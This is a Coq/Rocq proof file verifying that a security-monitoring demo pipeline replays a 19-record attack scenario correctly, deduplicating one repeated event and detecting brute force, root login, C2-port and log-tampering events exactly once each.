    apply Hin. rewrite fmap_app, elem_of_app. by left. }
  apply submseteq_length in Hsub. rewrite length_fmap in Hsub. unfold len in Hing. vm_compute (length (delete _ _)) in Hsub. lia.
Qed.

Lemma told_to_the_end last sl nl evs als x lo local_hostname start :
  dt_offset start = Some 0 → service_ok iso prefix s rules last sl nl evs als x → backlog (pipeline_of x) = 0 →
  Forall (λ c, lo ≤ c.1 < lo + window) (sv_lookups x) → sv_accepted x = story local_hostname start →
  analysed (sv_handled x) = told_once local_hostname start.
Proof.
  intros Ho Hok Hb Hwin Hacc. destruct (drained_nothing_left _ _ _ _ _ _ _ _ _ _ Hok Hb) as [Hnone Hall].
  destruct (story_keys local_hostname start Ho) as [Hkeys _]. rewrite Hacc in Hall.
  assert (Hlen : length (story local_hostname start) = 19%nat) by (rewrite <-(length_fmap dedup_key), Hkeys; reflexivity).
  destruct (analysed_once _ _ _ _ _ _ _ Hok Hwin) as [Hnd Hin]; [rewrite Hacc; unfold len; lia|].
  rewrite Hnone in Hnd, Hin. simpl option_list in *. rewrite !app_nil_r in Hnd, Hin. rewrite Hall, ?app_nil_r, Hkeys in Hin. destruct ids_once as [Hnd' _].
  assert (Hperm : dedup_key <$> analysed (sv_handled x) ≡ₚ delete REPEATED story_ids).
  { apply NoDup_Permutation; [done|done|]. intros k. by rewrite Hin, ids_same. }
  apply Permutation_length in Hperm. rewrite length_fmap in Hperm. apply NoDup_fmap_1 in Hnd.
  destruct (story_told local_hostname start Ho) as (c & Hst & ->). apply once_told; [|done|].
  - rewrite <-Hst, <-Hall. apply sublist_analysed.
  - rewrite Hperm, length_take, length_drop, Hlen. reflexivity.
Qed.

(** Every record written once or lost: there are rows for the others. *)
Lemma rows_and_losses s' last sl nl evs als x :
  service_ok iso prefix s' rules last sl nl evs als x → sv_flushing x = Idle → pending_events (rt_buffer (sv_runtime x)) = [] →
  len (analysed (sv_handled x)) ≤ count_rows (event_rows (sv_store x)) + events_unpersisted (rt_buffer (sv_runtime x)).
Proof.
  intros [_ _ _ _ [[He _] _ _] <- _ _ _] Hi Hpe. cbn in He. rewrite Hi, Hpe in He. cbn in He.
  destruct (lane_accounts _ _ _ _ _ _ _ _ _ He) as (settled & dropped & [Hids Hparts Hlen Hheld _]). cbn in Hparts.
  rewrite app_nil_r in Hparts.
  assert (Hsub : write_id <$> evs ⊆+ (write_id <$> dropped) ++ stored_ids (rows (event_rows (sv_store x)))).
  { apply NoDup_submseteq; [done|]. intros w (p & -> & Hp)%list_elem_of_fmap. rewrite <-Hparts in Hp. rewrite elem_of_app.
    apply elem_of_app in Hp as [Hp|Hp]; [right|left; apply list_elem_of_fmap; eauto].
    pose proof (proj1 (Forall_forall _ _) Hheld _ Hp) as (r & Hr & _). apply list_elem_of_omap. exists r.
    apply and_comm.
    apply (list_elem_of_filter (λ r : row EventValues, row_write_id r = Some (write_id p))). rewrite Hr. by left. }
  apply submseteq_length in Hsub. rewrite length_app, !length_fmap in Hsub.
  pose proof (len_stored_ids (rows (event_rows (sv_store x)))) as Hr. unfold count_rows, len in *. rewrite length_fmap. lia.
Qed.
End told.

Lemma script_ids local_hostname start :
  dt_offset start = Some 0 →
  Z.of_nat (size (event_ids local_hostname (records (scenario start)))) = 18 ∧
  Z.of_nat (size (event_ids local_hostname (benign (scenario start)))) = 3.
Proof.
  intros (Hk & _ & Hb)%(story_keys local_hostname). unfold event_ids. fold (story local_hostname start). rewrite Hk, Hb.
  split; vm_compute; reflexivity.
Qed.

(** ** Properties *)

(** The demonstration's script is what its recap takes it to be, whatever
    the host and the hour: every raw record keeps its model's constraints, none
    is dead-lettered, of the 19 only one transition is told twice, in a row, and
    no benign event shares its id with another. *)
Theorem script_is_sound local_hostname start :
  dt_offset start = Some 0 →
  let script := scenario start in
  let '(events, n) := replay local_hostname (records script) new_normalizer in
  forallb valid_raw (records script) = true ∧ n = mkNormalizer 0 (len (records script)) ∧ len events = 19 ∧
  size (event_ids local_hostname (records script)) = 18%nat ∧ size (event_ids local_hostname (benign script)) = 3%nat ∧
  (∃ before after cron, events = before ++ cron :: cron :: after ∧ NoDup (dedup_key <$> before ++ cron :: after)) ∧
  ∀ id, id ∈ event_ids local_hostname (benign script) →
    len (filter (λ e, dedup_key e = id) events) = 1.
Proof.
  intros Ho script. subst script. destruct (script_ids local_hostname start Ho) as [Hs Hb].
  pose proof (story_length local_hostname start Ho) as Hlen. destruct (story_keys local_hostname start Ho) as (Hk & Hn & Hbk).
  destruct (story_told local_hostname start Ho) as (c & Hst & Hto). unfold event_ids in *.
  unfold story in *. destruct (replay local_hostname (records (scenario start)) _) as [events n] eqn:Hr. cbn [fst snd] in *.
  split; [destruct start as [t o]; simpl in Ho; rewrite Ho; vm_compute; reflexivity|].
  split; [done|]. split; [unfold len; lia|]. split; [lia|]. split; [lia|]. split.
  - eexists _, _, c. split; [exact Hst|]. rewrite <-Hto. unfold told_once, story. rewrite Hr. cbn [fst].
    rewrite list_fmap_delete, Hk. apply ids_once.
  - rewrite Hbk. intros id Hid%elem_of_list_to_set. 
    assert (Heq : length (filter (λ e, dedup_key e = id) events) = length (filter (.= id) story_ids)).
    { rewrite <-Hk, filter_fmap, length_fmap. reflexivity. }
    unfold len. rewrite Heq. clear Heq.
    revert id Hid. apply (proj1 (Forall_forall (λ id, Z.of_nat (length (filter (.= id) story_ids)) = 1) _)).
    apply (bool_decide_unpack _). vm_compute. reflexivity.
Qed.

Section property.
Context `{E : RegexEngine} {TE TA : Type} `{SqlTable EventValues TE, SqlTable AlertValues TA}.
Context (iso : Z → string) (prefix : string).

Lemma demo_queue rules rt : demo_runtime rules = Ok rt → _maxsize (pl_queue (rt_pipeline rt)) = 10000.
Proof.
  unfold demo_runtime, build_runtime. intros (m & _ & H1)%result_bind_ok. apply result_bind_ok in H1 as (p & Hp & H1).
  apply result_bind_ok in H1 as (p' & Hr & [= <-]). apply register_all_keeps in Hr as (Hk & _).
  unfold new_pipeline in Hp. apply result_bind_ok in Hp as (q & Hq & Hp). apply result_bind_ok in Hp as (w & _ & [= <-]).
  apply new_bounded_ok in Hq as [_ ->]. cbn in Hk. cbn [rt_pipeline set_consumer pl_queue]. by rewrite Hk.
Qed.

(** The demonstration replays its whole story through the real pipeline,
    with any valid rules: if the collector queues its events in order and they
    are looked up within one dedup window (twice the replay's time-out), then the
    loop does not end for having seen as many events as the script has before
    the last one is queued; and once it is, stopping the runtime leaves every
    event analysed, in order, the repeated transition once, and the recap says
    19 records, one duplicate, three benign events, and as many stored events as
    were analysed, less those counted lost. *)
Theorem demo_replays_its_story local_hostname start rules rt (st : Store TE TA) ls n lo
    turns again answers answers' answers'' deliveries delivered :
  dt_offset start = Some 0 → demo_runtime rules = Ok rt → Forall (λ r, validate_rule r = Ok r) rules →
  fresh_world prefix st →
  (∀ k, schedule (ls ++ upcoming k turns) ∧ Forall (λ t, lo ≤ t < lo + 2 * DEMO_TIMEOUT) (takes (ls ++ upcoming k turns))) →
  offered ls = take n (story local_hostname start) →
  let script := scenario start in
  ∃ x x', service_run iso prefix demo_settings ls (start_service rt st) = Ok x ∧
    stop iso prefix demo_settings turns again answers answers' answers'' deliveries x = Ok x' ∧
    (Z.of_nat (size (event_ids local_hostname (records script))) ≤ events_ingested (rt_metrics (sv_runtime x)) → (19 ≤ n)%nat) ∧
    ((19 ≤ n)%nat →
       analysed (sv_handled x') = told_once local_hostname start ∧
       let r := demo_result local_hostname script delivered x' in
       replayed r = 19 ∧ duplicates_dropped r = 1 ∧ benign_events r = 3 ∧
       18 ≤ persisted_events r + events_unpersisted (rt_buffer (sv_runtime x'))).
Proof.
  intros Ho Hrt Hrules Hst Hls Hoff script. subst script. assert (Hf : valid_fields demo_settings = true) by reflexivity.
  destruct (schedule_ahead _ (proj1 (Hls 0%nat))) as (l0 & n0 & Ha0). unfold upcoming in Ha0. cbn [seq fmap list_fmap concat] in Ha0.
  pose proof (λ last n, start_service_ok iso prefix demo_settings rules Hf _ _ rt st last n Hrt Hst) as Hstart.
  destruct (run_ok iso prefix demo_settings rules Hf Hrules _ _ _ _ _ _ _ _ (Hstart l0 n0) Ha0) as (x & _ & _ & _ & _ & _ & Hrun & _ & _).
  destruct (schedule_ahead _ (proj1 (Hls (Z.to_nat (2 * qsize (pl_queue (rt_pipeline (sv_runtime x))) + 1))))) as (l1 & n1 & Ha1).
  destruct (run_ok iso prefix demo_settings rules Hf Hrules _ _ _ _ _ _ _ _ (Hstart l1 n1) Ha1)
    as (x1 & last & sl & nl & evs & als & Hrun1 & Hok & Ha). rewrite Hrun in Hrun1. injection Hrun1 as <-.
  destruct (stop_ok iso prefix demo_settings rules Hf Hrules _ _ _ _ _ _ turns again answers answers' answers'' deliveries Hok Ha)
    as (x' & x'' & last' & sl' & nl' & evs' & als' & Hstop & Hok' & Hb & Hacc' & Hi & [Hpe _] & Hpipe & Hdb & _).
  assert (Hin : ∀ k y, looks_up (start_service rt st) (ls ++ upcoming k turns) y →
    Forall (λ c, lo ≤ c.1 < lo + dedup_window_seconds demo_settings) (sv_lookups y)).
  { intros k y Hl. apply Forall_forall. intros c [Hc|Hc]%Hl; [by apply elem_of_nil in Hc|].
    exact (proj1 (Forall_forall _ _) (proj2 (Hls k)) _ Hc). }
  pose proof (run_looks_up _ _ _ _ _ _ Hrun) as Hlook. destruct (stop_looks_up _ _ _ _ _ _ _ _ _ _ _ Hstop) as (k & Hlook').
  pose proof (Hin k x'' (looks_up_app _ _ _ _ _ Hlook Hlook')) as Hwin'.
  pose proof (Hin 0%nat x (looks_up_app _ _ _ _ _ Hlook (looks_up_refl x))) as Hwin.
  assert (Hacc : sv_accepted x = take n (story local_hostname start)).
  { rewrite <-Hoff. apply (run_takes_in iso prefix demo_settings rules _ _ _ _ _ _ _ _ _ Hf Hrules (Hstart l1 n1) Ha1 Hrun).
    cbn [start_service sv_accepted sv_runtime]. rewrite (demo_queue _ _ Hrt), Hoff. unfold len. rewrite length_take.
    pose proof (story_length local_hostname start Ho). cbn [length]. lia. }
  destruct (script_ids local_hostname start Ho) as [-> Hbenign]. exists x, x''.
  split; [done|]. split; [done|]. split; [by eapply not_before_the_end|]. intros Hn.
  rewrite take_ge in Hacc by (rewrite story_length by done; lia). rewrite Hacc in Hacc'.
  assert (Htold : analysed (sv_handled x') = told_once local_hostname start).
  { eapply told_to_the_end; [done..| |done]. by rewrite <-(f_equal sys_lookups Hpipe : sv_lookups x'' = sv_lookups x'). }
  pose proof (rows_and_losses _ _ _ _ _ _ _ _ _ _ Hok' Hi Hpe) as Hrows.
  destruct (drained_nothing_left _ _ _ _ _ _ _ _ _ _ Hok' Hb) as [_ Hall].
  pose proof (handled_counted _ (ok_no_error _ _ _ _ _ _ _ _ _ _ Hok')) as Hcount.
  pose proof (so_deduped _ _ _ _ _ (ok_pipeline _ _ _ _ _ _ _ _ _ _ Hok')) as Hdup. cbn in Hdup.
  rewrite (f_equal sys_handled Hpipe : sv_handled x'' = sv_handled x'). split; [done|].
  injection Hpipe as Hpl _ _ _ _ _. injection Hdb as Hbuf _ Hst' _.
  assert (Hlen : len (told_once local_hostname start) = 18).
  { unfold told_once, len. rewrite length_delete; rewrite ?story_length by done; [done|apply lookup_lt_is_Some; rewrite story_length by done; unfold REPEATED; lia]. }
  rewrite Htold, Hlen in *. rewrite Hall, Hacc' in Hcount. unfold len in Hcount. rewrite story_length in Hcount by done.
  cbv zeta. unfold demo_result. cbn [replayed duplicates_dropped benign_events persisted_events]. split; [done|].
  split; [|split; [by rewrite Hbenign|by rewrite Hbuf, Hst']].
  transitivity (pl_deduped (rt_pipeline (sv_runtime x''))); [reflexivity|]. rewrite Hpl. lia.
Qed.
End property.

(** What the demonstration detects: the rules of the shipped library that
    use no regular expression, whatever the regex engine, find in the replayed
    story the brute force at its fifth failed login, the root login, the
    connection to the C2 port and the deleted log, each once, and nothing
    else; no benign event is reported. *)
Theorem demo_detections `{E : RegexEngine} iso local_hostname em_dash :
  let script := scenario (mkDatetime 0 (Some 0)) in
  let id_of raw := match normalize local_hostname raw new_normalizer with (Some e, _) => dedup_key e | _ => ""%string end in
  let rules := plain_rules em_dash in
  Forall (λ r, validate_rule r = Ok r) rules ∧
  ∃ dss g, evaluate_all iso (told_once local_hostname (mkDatetime 0 (Some 0))) (new_engine rules MAX_THRESHOLD_GROUPS) = Ok (dss, g) ∧
    (λ d, (det_rule_id d, Some (det_event_id d))) <$> concat dss
    = [("ssh-brute-force", id_of <$> records script !! 6%nat); ("ssh-root-login", id_of <$> records script !! 8%nat);
       ("c2-beacon-port", id_of <$> records script !! 10%nat); ("log-tampering", id_of <$> records script !! 18%nat)]%string ∧
    Forall (λ d, det_event_id d ∉ event_ids local_hostname (benign script)) (concat dss).
Proof.
  cbv zeta. split; [apply plain_rules_valid|]. unfold told_once. rewrite story_is_told by done. eexists _, _.
  split; [vm_compute; reflexivity|]. split.
  - assert (Hid : ∀ i raw, records (scenario (mkDatetime 0 (Some 0))) !! i = Some raw →
      match normalize local_hostname raw new_normalizer with (Some e, _) => dedup_key e | _ => ""%string end
      = default ""%string (story_ids !! i)).
    { intros i raw Hr. transitivity (default ""%string (dedup_key <$> event_of local_hostname raw)).
      - unfold normalize, event_of. by destruct (map_raw local_hostname raw).
      - rewrite (record_told local_hostname (mkDatetime 0 (Some 0)) i raw eq_refl Hr), <-list_lookup_fmap. done. }
    cbn [records scenario timeline lookup list_lookup app map fmap option_fmap option_map].
    rewrite (Hid 6%nat _ eq_refl), (Hid 8%nat _ eq_refl), (Hid 10%nat _ eq_refl), (Hid 18%nat _ eq_refl). done.
  - unfold event_ids. rewrite (proj2 (proj2 (story_keys local_hostname (mkDatetime 0 (Some 0)) eq_refl))).
    apply (bool_decide_unpack _). vm_compute. reflexivity.
Qed.

(** ** Witnesses *)

Lemma script_is_sound_witness : size (event_ids "box" (records (scenario (mkDatetime 0 (Some 0))))) = 18%nat.
Proof.
  pose proof (script_is_sound "box" (mkDatetime 0 (Some 0)) eq_refl) as H. cbv zeta in H.
  destruct (replay _ _ _) as [events n]. apply H.
Defined.

Definition example_replay : list label := Queued <$> story "box" (mkDatetime 0 (Some 0)).

Lemma queued_only (es : list Event) : offered (Queued <$> es) = es ∧ takes (Queued <$> es) = [] ∧ ticks (Queued <$> es) = [].
Proof.
  unfold offered, takes, ticks. induction es as [|e es (IH1 & IH2 & IH3)]; [done|]. cbn. rewrite IH1, IH2, IH3. done.
Qed.

Lemma example_replay_offers : offered example_replay = take 19 (story "box" (mkDatetime 0 (Some 0))).
Proof. rewrite take_ge by (by rewrite story_length). apply queued_only. Qed.

Lemma example_upcoming k :
  takes (upcoming k example_turn) = replicate k 10 ∧ ticks (upcoming k example_turn) = replicate k (example_tick 10).
Proof.
  induction k as [|k [IH1 IH2]]; [done|]. rewrite upcoming_S.
  split; [exact (f_equal (cons 10) IH1)|exact (f_equal (cons (example_tick 10)) IH2)].
Qed.

Lemma example_replay_schedule k :
  schedule (example_replay ++ upcoming k example_turn) ∧
  Forall (λ t, 0 ≤ t < 0 + 2 * DEMO_TIMEOUT) (takes (example_replay ++ upcoming k example_turn)).
Proof.
  destruct (queued_only (story "box" (mkDatetime 0 (Some 0)))) as (_ & Hq1 & Hq2). destruct (example_upcoming k) as [Hu1 Hu2].
  assert (Ht : takes (example_replay ++ upcoming k example_turn) = replicate k 10).
  { unfold takes, example_replay in *. by rewrite omap_app, Hu1, Hq1. }
  assert (Hk : ticks (example_replay ++ upcoming k example_turn) = replicate k (example_tick 10)).
  { unfold ticks, example_replay in *. by rewrite omap_app, Hu2, Hq2. }
  clear Hq1 Hq2 Hu1 Hu2.
  unfold schedule, clocks. rewrite Ht, Hk. split_and!.
  - apply sorted_replicate. lia.
  - apply Forall_replicate. intros i j _. cbn. lia.
  - apply sorted_replicate. intros i j. cbn. lia.
  - apply Forall_replicate. unfold DEMO_TIMEOUT, SECOND. lia.
Qed.

Lemma demo_replays_its_story_witness :
  ∃ rt x x', demo_runtime example_rules = Ok rt ∧
    service_run (E := literal_engine) str_of_int "p" demo_settings example_replay (start_service rt example_store) = Ok x ∧
    stop (E := literal_engine) str_of_int "p" demo_settings example_turn true example_answer example_answer example_answer
      [LaneTakes 0] x = Ok x' ∧
    duplicates_dropped (demo_result "box" (scenario (mkDatetime 0 (Some 0))) [] x') = 1.
Proof.
  destruct (demo_runtime example_rules) as [rt|e] eqn:Hrt; [|discriminate (f_equal (@is_ok _) Hrt)].
  destruct (demo_replays_its_story (E := literal_engine) str_of_int "p" "box" (mkDatetime 0 (Some 0)) example_rules rt
    example_store example_replay 19 0 example_turn true example_answer example_answer example_answer [LaneTakes 0] []
    eq_refl Hrt example_rules_valid example_store_fresh example_replay_schedule example_replay_offers)
    as (x & x' & Hr & Hs & _ & Hd).
  exists rt, x, x'. split; [reflexivity|]. split; [exact Hr|]. split; [exact Hs|].
  destruct (Hd (le_n 19)) as (_ & _ & H & _). exact H.
Defined.
